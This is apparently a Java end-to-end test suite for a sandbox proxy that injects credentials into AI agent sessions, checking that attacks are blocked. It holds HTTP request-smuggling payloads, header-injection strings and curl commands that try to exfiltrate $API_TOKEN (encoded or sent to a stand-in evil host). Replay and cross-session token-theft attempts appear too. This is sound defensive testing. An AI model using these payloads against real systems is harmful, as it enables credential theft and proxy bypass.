package io.dormouse.local.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.dormouse.json.Json;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What a request takes along, and what comes back. */
interface CredentialAttacks {
    String USE = "-H \"Authorization: Bearer $API_TOKEN\" ";

    private static String head(Target target, String path, String more) {
        return "GET http://" + target.plain.authority() + path + " HTTP/1.1\r\nHost: " + target.plain.authority()
                + "\r\nAuthorization: Bearer $API_TOKEN\r\n" + more + "\r\n\r\n";
    }

    @Test
    default void s11_a_request_that_two_could_read_differently_is_not_sent(Target target) {
        String host = target.plain.authority();
        List<String> requests = List.of(
                head(target, "/s11", "X: a\rEvil: b"),
                head(target, "/s11", "X: a\0b"),
                head(target, "/s11", "X: a\r\n folded: b"),
                head(target, "/s11", "X Y: a"),
                head(target, "/s11", "X\0: a"),
                head(target, "/s11", "X : a"),
                head(target, "/s11", "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
                head(target, "/s11", "Content-Length: 3\r\nContent-Length: 4"),
                head(target, "/s11", "Content-Length: +3"),
                head(target, "/s11", "Transfer-Encoding: xchunked"),
                head(target, "/s11", "Transfer-Encoding : chunked"),
                head(target, "/s11", "Host: " + target.evilPlain.authority()),
                head(target, "/s11\r\nX: y", "Y: z"),
                head(target, "/s11\0", "Y: z"),
                head(target, "/s11", "Y: z").replace("GET ", "GE\0T "),
                head(target, "/s11", "Y: z").replace("GET ", "G(T "),
                head(target, "/s11", "Y: z").replace("GET ", "TRACE "),
                head(target, "/s11", "Y: z").replace("GET ", "CONNECT "),
                head(target, "/s11", "Y: z").replace("HTTP/1.1", "HTTP/2.0"),
                "GET /s11 HTTP/1.1\r\nHost: " + host + "\r\nHost: " + host + "\r\n\r\n");
        List<String> answers = target.main().raw(requests);
        assertThat(answers).hasSize(requests.size());
        for (int i = 0; i < answers.size(); i++)
            assertThat(answers.get(i)).as(requests.get(i)).matches("HTTP/1\\.1 (400|501|505) .*|closed");
        assertThat(target.plain.heard("/s11")).isEmpty();
        // A header that the connection is said to own ends with it, its secret as well.
        target.main().raw(List.of(head(target, "/s11-hop", "Connection: authorization")));
        assertThat(target.plain.heard("/s11-hop"))
                .allMatch(heard -> heard.header("authorization").isEmpty());
    }

    @Test
    default void s12_a_credential_that_is_not_ours_never_reaches_a_host_of_ours(Target target) {
        Room room = target.main();
        String url = "https://" + target.api.authority() + "/s12";
        for (String header : List.of(
                "Authorization: Bearer attackers-key",
                "X-Api-Key: attackers-key",
                "X-Amz-Security-Token: attackers-key",
                "X-Goog-Api-Key: attackers-key"))
            assertThat(room.curl("-H '" + header + "' " + url)).as(header).isEqualTo("403 foreign_credential");
        assertThat(room.curl(url + "?api_key=attackers-key")).isEqualTo("403 foreign_credential");
        assertThat(target.api.heard("/s12")).isEmpty();
        assertThat(room.curl(USE + "-H 'Cookie: a=attackers-key' -H 'X-Forwarded-For: attackers-key'"
                        + " -H 'Proxy-Authorization: attackers-key' -H 'X-Forwarded-Host: attackers-key'"
                        + " -H 'Forwarded: for=attackers-key' -H 'Via: attackers-key' -H 'X-Mine: stays' " + url))
                .isEqualTo("200");
        assertThat(target.api.heard("/s12")).hasSize(1);
        String head = target.api.heard("/s12").getFirst().head();
        assertThat(head)
                .doesNotContain("attackers-key")
                .contains("X-Mine: stays", "Bearer " + target.canary.value(Target.VARIABLE));
    }

    @Test
    default void s13_a_placeholder_elsewhere_than_in_a_header_is_never_swapped(Target target) {
        Room room = target.main();
        String url = "https://" + target.api.authority() + "/s13";
        for (String more : List.of(
                "-d \"key=$API_TOKEN\" " + url,
                "-d \"{\\\"a\\\":[\\\"$API_TOKEN\\\"]}\" -H 'Content-Type: application/json' " + url,
                "\"" + url + "?key=$API_TOKEN\"",
                "\"" + url + "/$API_TOKEN\"",
                USE + "-H \"X-Other: $API_TOKEN\" " + url,
                "-u \"me:$API_TOKEN\" " + url,
                "-H \"Referer: $API_TOKEN\" " + url,
                "-A \"$API_TOKEN\" " + url,
                "-H \"$API_TOKEN: x\" " + url,
                USE + "https://" + target.evil.authority() + "/s13"))
            assertThat(room.curl(more)).as(more).isEqualTo("403 credential_not_allowed");
        assertThat(target.api.heard("/s13")).isEmpty();
        assertThat(target.evil.heard("/s13")).isEmpty();
        // Where it is not understood it arrives as it is, or not at all.
        room.curl("-d \"$(printf %s \"$API_TOKEN\" | base64 -w0)\" " + url + "-encoded");
        room.curl("-d \"$(printf %s \"$API_TOKEN\" | rev)\" " + url + "-encoded");
        assertThat(target.api.heard("/s13-encoded"))
                .noneMatch(heard -> heard.head().contains(target.canary.value(Target.VARIABLE)));
    }

    /** Every form at every cut: {@code EchoesTest}. */
    @Test
    default void s14_what_a_host_sends_back_is_without_the_secret(Target target) {
        Room room = target.main();
        String host = "https://" + target.api.authority();
        for (String path : List.of("/echo", "/echo-header", "/echo-error", "/echo-chunks", "/echo-forms")) {
            String seen = room.bash("curl -sS -m 20 -i " + USE + host + path).fine();
            assertThat(seen).as(path).contains("*****").doesNotContain("CANARY");
        }
        assertThat(room.curl(USE + host + "/echo-gzip")).isEqualTo("502 answer_compressed");
        assertThat(room.bash("curl -sS -m 20 -i " + USE + host + "/echo-cookie").fine())
                .contains("a cookie")
                .doesNotContainIgnoringCase("set-cookie");
        assertThat(target.api.heard("/echo-")).hasSize(6).allMatch(heard -> heard.header("authorization")
                .equals("Bearer " + target.canary.value(Target.VARIABLE)));
        // A program of the attacker's that looks at the pieces sees no more.
        String pieces = room.python("""
                        import os, urllib.request
                        request = urllib.request.Request('HOST/echo-chunks', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})
                        with urllib.request.urlopen(request) as answer:
                            print([answer.read(1).hex() for i in range(80)], answer.headers)
                        """.replace("HOST", host)).fine();
        assertThat(pieces).contains("'2a', '2a', '2a'");
    }

    /** There is no token that a sandbox has; what can be replayed is a placeholder, a hand's secret and a lane. */
    @Test
    default void s15_what_was_good_for_one_turn_is_good_for_nothing_afterwards(Target target) throws Exception {
        Room room = target.open("replay", Room.Plan.PLAIN.vault(target.vault()));
        String url = "https://" + target.api.authority() + "/s15";
        Path told = target.suite.hand(room.id()).resolve("workspace/told");
        String later = "(while [ ! -e go ]; do sleep 0.1; done; curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' " + USE
                + url + " > told.new; mv told.new told) >/dev/null 2>&1 &";
        room.bash("cd /workspace; rm -f go told; " + later).fine();
        // The turn is over; a program of its lives on.
        Files.writeString(target.suite.hand(room.id()).resolve("workspace/go"), "");
        Eventually.until("the program has its answer", () -> Files.exists(told));
        assertThat(Files.readString(told)).isEqualTo("503\n");
        assertThat(target.api.heard("/s15")).isEmpty();

        JsonNode run = Json.parse(Files.readString(target.suite.hand(room.id()).resolve("state/run.json")));
        String secret = Json.parse(Files.readString(target.suite.hand(room.id()).resolve("hand.json")))
                .path("secret")
                .asText();
        URI supervisor = URI.create("http://127.0.0.1:" + run.path("port").asInt());
        int lanes = Json.parse(health(supervisor, secret).body())
                .path("egress_port")
                .asInt();
        assertThat(health(supervisor, "guessed").statusCode()).isEqualTo(401);
        assertThat(lane(lanes, 1_000, "guessed")).isEqualTo("");
        // An epoch that is over opens nothing, whoever knows the secret: it is let in and put out.
        room.bash("true").fine();
        assertThat(lane(lanes, 0, secret)).isEqualTo("ok\n");

        room.bash("cd /workspace; rm -f go told; " + later).fine();
        assertThat(target.client
                        .post("/v1/sessions/" + room.id() + "/archive", "{}")
                        .status())
                .isEqualTo(200);
        if (Files.isDirectory(told.getParent())) Files.writeString(told.resolveSibling("go"), "");
        Eventually.until(
                "the program has its answer, or has ended",
                () -> Files.exists(told)
                        || RunningSuite.supervisor(target.suite.hand(room.id())).isEmpty());
        assertThat(target.client
                        .post(
                                "/v1/sessions/" + room.id() + "/events",
                                "{\"events\":[{\"type\":\"user.message\",\"content\":[{\"type\":\"text\",\"text\":\"[]\"}]}]}")
                        .status())
                .isEqualTo(400);
        assertThat(target.api.heard("/s15")).isEmpty();
    }

    private static HttpResponse<String> health(URI supervisor, String secret) throws Exception {
        try (HttpClient http = HttpClient.newHttpClient()) {
            HttpRequest request = HttpRequest.newBuilder(supervisor.resolve("/v1/health"))
                    .header("Authorization", "Bearer " + secret)
                    .build();
            return http.send(request, HttpResponse.BodyHandlers.ofString());
        }
    }

    /** What a supervisor says to one who wants to carry its requests, until it hangs up. */
    private static String lane(int port, long epoch, String secret) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setSoTimeout(60_000);
            socket.getOutputStream()
                    .write(("dormouse-lane 1 " + epoch + " " + secret + "\n").getBytes(StandardCharsets.US_ASCII));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.US_ASCII);
        }
    }

    @Test
    default void s16_a_session_has_no_use_of_what_another_has(Target target) {
        String stolen = target.main().bash("echo $API_TOKEN").fine().strip();
        Room neighbour = target.neighbour();
        String url = "https://" + target.api.authority() + "/s16";
        assertThat(neighbour.curl("-H 'Authorization: Bearer " + stolen + "' " + url))
                .isEqualTo("403 foreign_credential");
        neighbour.curl("-H 'X-Stolen: " + stolen + "' " + url);
        assertThat(target.api.heard("/s16"))
                .noneMatch(heard -> heard.head().contains(target.canary.value(Target.VARIABLE)));
        assertThat(neighbour.curl("-H \"Authorization: Bearer $B_TOKEN\" " + url + "-own"))
                .isEqualTo("200");
        assertThat(target.api.heard("/s16-own").getFirst().header("authorization"))
                .isEqualTo("Bearer " + target.canary.value(Target.OTHER));

        String credential = target.client
                .get("/v1/vaults/" + target.vault() + "/credentials")
                .json()
                .path("data")
                .path(0)
                .path("id")
                .asText();
        for (String path : List.of(
                "/v1/vaults/VAULT", "/v1/vaults/VAULT/credentials", "/v1/vaults/VAULT/credentials/" + credential)) {
            Reply foreign = target.stranger().get(path.replace("VAULT", target.vault()));
            Reply unknown = target.stranger().get(path.replace("VAULT", "vlt_11111111111111111111"));
            assertThat(foreign.status()).isEqualTo(404);
            assertThat(foreign.message().replace(target.vault(), "X"))
                    .isEqualTo(unknown.message().replace("vlt_11111111111111111111", "X"));
        }
        Client stranger = target.stranger();
        String agent = stranger.agent("x", "[]").id();
        String with = "{\"agent\":\"" + agent + "\",\"environment_id\":\"" + stranger.environment()
                + "\",\"vault_ids\":[\"VAULT\"]}";
        Reply foreign = stranger.post("/v1/sessions", with.replace("VAULT", target.vault()));
        Reply unknown = stranger.post("/v1/sessions", with.replace("VAULT", "vlt_11111111111111111111"));
        assertThat(foreign.status()).isEqualTo(unknown.status()).isEqualTo(404);
        assertThat(foreign.message().replace(target.vault(), "X"))
                .isEqualTo(unknown.message().replace("vlt_11111111111111111111", "X"));
    }

    @Test
    default void s17_a_request_cannot_widen_what_it_may(Target target) {
        Room room = target.limited();
        String evil = "https://" + target.evil.authority() + "/s17";
        for (String header : List.of(
                "X-Dormouse-Allowed-Hosts: evil.test",
                "X-Allowed-Hosts: *",
                "X-Dormouse-Purpose: FETCH",
                "X-Credential-Id: vcrd_11111111111111111111",
                "X-Dormouse-Workspace: default"))
            assertThat(room.curl("-H '" + header + "' " + evil)).as(header).isEqualTo("403 host_not_allowed");
        assertThat(room.curl("-d '{\"allowed_hosts\":[\"evil.test\"],\"tenant\":\"other\"}' " + evil))
                .isEqualTo("403 host_not_allowed");
        assertThat(target.evil.heard("/s17")).isEmpty();
        Client stranger = target.stranger();
        String agent = stranger.agent("x", "[]").id();
        String environment = stranger.environment();
        Reply session = stranger.post(
                "/v1/sessions",
                "{\"agent\":\"" + agent + "\",\"environment_id\":\"" + environment
                        + "\",\"workspace\":\"default\",\"tenant\":\"default\",\"allowed_hosts\":[\"*\"]}");
        assertThat(session.status()).isIn(200, 400);
        if (session.status() == 200)
            assertThat(target.client.get("/v1/sessions/" + session.id()).status())
                    .isEqualTo(404);
        assertThat(stranger.send(
                                "GET",
                                "/v1/sessions/" + room.id(),
                                null,
                                java.util.Map.of("anthropic-workspace-id", "default", "x-workspace", "default"))
                        .status())
                .isEqualTo(404);
    }
}
